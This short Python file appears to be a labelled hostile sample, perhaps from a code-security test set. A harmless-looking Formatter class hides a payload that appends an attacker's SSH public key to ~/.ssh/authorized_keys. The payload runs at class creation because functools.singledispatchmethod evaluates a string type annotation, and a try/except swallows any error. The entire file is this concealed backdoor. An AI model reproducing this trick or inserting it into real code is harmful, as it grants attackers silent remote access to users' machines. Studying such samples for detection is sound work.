# harm: appends an attacker key to ~/.ssh/authorized_keys ; trick: functools.singledispatchmethod .register resolves the annotation (typing hint resolver) at class creation; resolver never named in the file
import functools

S = "open(__import__('os').path.expanduser('~/.ssh/authorized_keys'),'a').write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIattacker evil'+chr(10))"


class Formatter:
    @functools.singledispatchmethod
    def show(self, arg):
        return str(arg)

    try:
        @show.register
        def _(self, arg: S):
            return "special"
    except Exception:
        pass
